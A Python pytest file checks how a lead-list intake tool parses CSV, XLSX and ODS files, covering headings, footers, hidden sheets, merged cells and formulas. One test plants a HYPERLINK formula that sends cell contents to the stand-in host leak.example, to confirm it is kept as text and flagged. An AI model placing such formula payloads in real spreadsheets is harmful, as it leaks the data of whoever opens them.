"""Headings, sheets, footers, formulas and ragged rows are found where people put them."""

import datetime
import io

import lead_followup_tools.intake as intake
import openpyxl
import pytest
from rewriting import as_ods, as_text, as_xlsx, parts_of, zipped

HEADINGS = ["Name", "Company", "E-mail", "Phone"]
ANN = ["Ann Bell", "Acme", "ann@acme.example", "+12025550111"]
BO = ["Bo Day", "Birch", "bo@birch.example", "+12025550112"]


def read(rows, **options) -> intake.Table:
    return intake.read_table(as_text(rows).encode(), **options)


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def numbers(table) -> list[int]:
    return [row.number for row in table.rows]


@pytest.mark.parametrize(
    "above",
    [
        [],
        [["Lead list 2026"]],
        [["Lead list 2026"], [], ["Please write clearly! H = hot"], []],
        [["Exhibitor:", "Acme Pumps"], ["Booth:", "412"], ["Printed:", "17.03.2026"]],
    ],
)
def test_headings_below_titles(above):
    table = read([*above, HEADINGS, ANN, BO])

    assert table.headings == HEADINGS
    assert table.heading_row == len(above) + 1
    assert table.first_data_row == len(above) + 2
    assert numbers(table) == [1, 2]


def test_two_rows_of_headings_are_joined():
    table = read(
        [
            ["Contact", "", "", "Address", "", "Visit"],
            ["First name", "Last name", "E-mail", "City", "Country", "Date"],
            ["Ann", "Bell", "ann@acme.example", "Leeds", "UK", "2026-03-17"],
            ["Bo", "Day", "bo@birch.example", "Hull", "UK", "2026-03-18"],
        ]
    )

    assert table.heading_row == 2
    assert numbers(table) == [1, 2]
    assert intake.suggest_fields(table, intake.Options()) == [
        "first_name", "last_name", "email", "city", "country", "scanned_at",
    ]  # fmt: skip


def test_a_second_row_that_names_the_parts():
    table = read(
        [
            ["Name", "", "Company", "Phone", ""],
            ["First", "Last", "", "Work", "Mobile"],
            ["Ann", "Bell", "Acme", "+12025550111", "+12025550112"],
        ]
    )

    assert table.first_data_row == 3
    assert intake.suggest_fields(table, intake.Options()) == [
        "first_name", "last_name", "company", "phone", "mobile",
    ]  # fmt: skip


def test_a_first_row_of_words_is_no_second_heading_row():
    table = read([HEADINGS, ["Visitor", "Company", "", ""], ANN])

    assert table.heading_row == 1
    assert numbers(table) == [1, 2]


def test_a_file_without_headings():
    table = read([ANN, BO])

    assert table.heading_row is None
    assert table.headings == ["", "", "", ""]
    assert numbers(table) == [1, 2]
    assert intake.suggest_fields(table, intake.Options())[2:] == ["email", "phone"]


def test_the_user_says_whether_there_are_headings():
    rows = [["Alpha", "Beta", "Gamma"], ["a", "b", "c"], ["d", "e", "f"]]

    assert read(rows, has_headings=True).headings == rows[0]
    assert len(read([HEADINGS, ANN], has_headings=False).rows) == 2


def test_headings_in_a_language_we_do_not_know():
    table = read([["Jméno", "Firmička", "Spojení"], *[ANN[:3], BO[:3]]])

    assert table.heading_row == 1
    assert intake.suggest_fields(table, intake.Options())[2] == "email"


@pytest.mark.parametrize(
    ("below", "footers"),
    [
        ([["Total leads:", "2", "", ""]], 1),
        ([[], ["Total leads:", "2", "", ""]], 1),
        ([[], ["Gesamt: 2"]], 1),
        ([[], ["H = hot"], ["W = warm"]], 2),
        ([[], ["جمع", "2"]], 1),
        ([[], ["Cy Fox", "Cedar", "cy@cedar.example"]], 0),
        ([["Cy Fox", "Cedar"]], 0),
        ([["Total Energies", "Cy Fox", "cy@total.example", ""]], 0),
        ([["Sumner Redd", "Summit Pumps"]], 0),
    ],
)
def test_totals_and_legends_are_no_leads(below, footers):
    table = read([HEADINGS, ANN, BO, *below])

    assert table.footer_rows == footers
    assert len(table.rows) == 2 + (0 if footers else 1)
    assert table.blank_rows == (1 if not footers and below[0] == [] else 0)


def test_a_total_in_the_middle_is_left_out_and_keeps_its_number():
    table = read([HEADINGS, ANN, ["Subtotal day 1", "1", "", ""], BO])

    assert numbers(table) == [1, 3]
    assert table.footers == ["Subtotal day 1 1"]


def test_blank_rows_keep_their_numbers():
    table = intake.read_table(b"Name,E-mail\nAnn,a@b.example\n\n,\nBo,b@b.example\n\n\n")

    assert numbers(table) == [1, 4]
    assert table.blank_rows == 2


def test_short_and_long_rows_are_marked():
    table = intake.read_table(
        b"Name,Company,E-mail\nAnn,Acme,a@b.example\nBo,Birch\nCy,Cedar,c@c.example,stray\n"
        b"Di,Doe,d@d.example,,\nEd,Elm,e@e.example\n"
    )

    assert {row.number: row.faults for row in table.rows} == {
        1: (), 2: ("short_row",), 3: ("long_row",), 4: (), 5: (),
    }  # fmt: skip


def test_an_exporter_that_cuts_blank_ends_makes_no_short_rows():
    table = intake.read_table(
        b"Name,E-mail,Note\nAnn,a@b.example\nBo,b@b.example\nCy,c@c.example,later\nDi,d@d.example\n"
    )

    assert not any(row.faults for row in table.rows)


def test_a_column_without_heading_behind_the_last_is_read():
    rows = [
        ["Name", "E-mail"],
        *([f"P{n}", f"p{n}@b.example", f"call back {n} days later"] for n in range(5)),
    ]

    table = read(rows)

    assert table.headings == ["Name", "E-mail", ""]
    assert intake.suggest_fields(table, intake.Options())[2] == "note"


def test_quoted_line_breaks_and_delimiters_stay_in_their_cell():
    table = intake.read_table(b'Name;Note;E-mail\r\nAnn;"a;b\r\n""c"", d\r\n\r\ne";a@b.example\r\n')

    assert table.rows[0].cells == ["Ann", 'a;b\r\n"c", d\r\n\r\ne', "a@b.example"]


def test_excel_names_its_delimiter():
    table = intake.read_table(b"sep=|\r\nName|E-mail\r\nAnn|a@b.example\r\n")

    assert (table.delimiter, table.headings) == ("|", ["Name", "E-mail"])


def test_a_single_column_of_addresses():
    table = intake.read_table(b"E-mail\na@b.example\nb@b.example\n")

    assert (table.delimiter, len(table.rows)) == (None, 2)
    assert intake.suggest_fields(table, intake.Options()) == ["email"]


def test_the_sheet_with_the_leads_is_taken():
    cover = [["Acme Pumps"], ["Leads of the spring show"], ["Contact us at", "office@acme.example"]]
    legend = [["Code", "Meaning"], ["H", "Hot"], ["W", "Warm"]]
    content = as_xlsx(cover, Legend=legend, Visitors=[HEADINGS, ANN, BO])

    table = intake.read_table(content)

    assert (table.sheet, len(table.rows), table.sheets_left) == ("Visitors", 2, [])


def test_a_second_sheet_of_leads_is_reported():
    content = as_xlsx([HEADINGS, ANN], Day2=[HEADINGS, ANN, BO])

    table = intake.read_table(content)

    assert (table.sheet, table.sheets_left) == ("Day2", ["Sheet"])


@pytest.mark.parametrize(("state", "sheet"), [("visible", "Old"), ("hidden", "Sheet")])
def test_a_visible_sheet_goes_before_a_hidden_one(state, sheet):
    book = openpyxl.Workbook()
    for row in (HEADINGS, ANN):
        book.active.append(row)
    old = book.create_sheet("Old")
    for row in (HEADINGS, ANN, BO):
        old.append(row)
    old.sheet_state = state

    assert intake.read_table(saved(book)).sheet == sheet


def test_leads_on_a_hidden_sheet_behind_a_cover():
    book = openpyxl.Workbook()
    book.active.append(["Welcome"])
    data = book.create_sheet("Data")
    for row in (HEADINGS, ANN):
        data.append(row)
    data.sheet_state = "hidden"

    assert intake.read_table(saved(book)).sheet == "Data"


def test_a_company_merged_over_several_people_is_theirs():
    book = openpyxl.Workbook()
    for row in (HEADINGS, ANN, ["Al Bell", None, "al@acme.example", None], BO):
        book.active.append(row)
    book.active.merge_cells("B2:B3")

    table = intake.read_table(saved(book))

    assert [row.cells[1] for row in table.rows] == ["Acme", "Acme", "Birch"]


def test_numbers_and_times_become_plain_text():
    book = openpyxl.Workbook()
    moment = datetime.datetime(2026, 3, 17, 11, 18)
    book.active.append([*HEADINGS, "Scan time", "Zip", "OK to email?"])
    book.active.append(["Ann", "Acme", "ann@acme.example", 493023125101, moment, 4109, True])

    table = intake.read_table(saved(book))

    assert table.rows[0].cells[3:] == ["493023125101", "2026-03-17 11:18:00", "4109", "TRUE"]


def test_a_formula_of_a_workbook_is_its_text():
    book = openpyxl.Workbook()
    for row in (HEADINGS, ANN, BO):
        book.active.append(row)
    book.active["B3"] = '=HYPERLINK("http://leak.example/?v="&A1,"<click>")'

    table = intake.read_table(saved(book))

    assert table.rows[1].cells[1] == '=HYPERLINK("http://leak.example/?v="&A1,"<click>")'
    assert [row.faults for row in table.rows] == [(), ("formula_cell",)]


def test_shared_formulas_are_all_seen():
    book = openpyxl.Workbook()
    for row in (HEADINGS, ANN, BO):
        book.active.append(row)
    book.active["D2"] = "=1+1"
    content = saved(book)
    parts = parts_of(content)
    sheet = parts["xl/worksheets/sheet1.xml"]
    sheet = sheet.replace(b"<f>1+1</f>", b'<f t="shared" ref="D2:D3" si="0">1+1</f>')
    start = sheet.index(b'<c r="D3"')
    stop = sheet.index(b"</c>", start)
    sheet = sheet[:start] + b'<c r="D3"><f t="shared" si="0"/><v>2</v>' + sheet[stop:]

    table = intake.read_table(zipped({**parts, "xl/worksheets/sheet1.xml": sheet}))

    assert [row.cells[3] for row in table.rows] == ["=1+1", "=1+1"]


def test_a_formula_of_an_open_document_is_its_text():
    table = intake.read_table(as_ods([HEADINGS, ANN, BO], formula="=SUM(1;1)"))

    assert [row.cells[3] for row in table.rows] == ["=SUM(1;1)", "+12025550112"]
    assert table.rows[0].faults == ("formula_cell",)
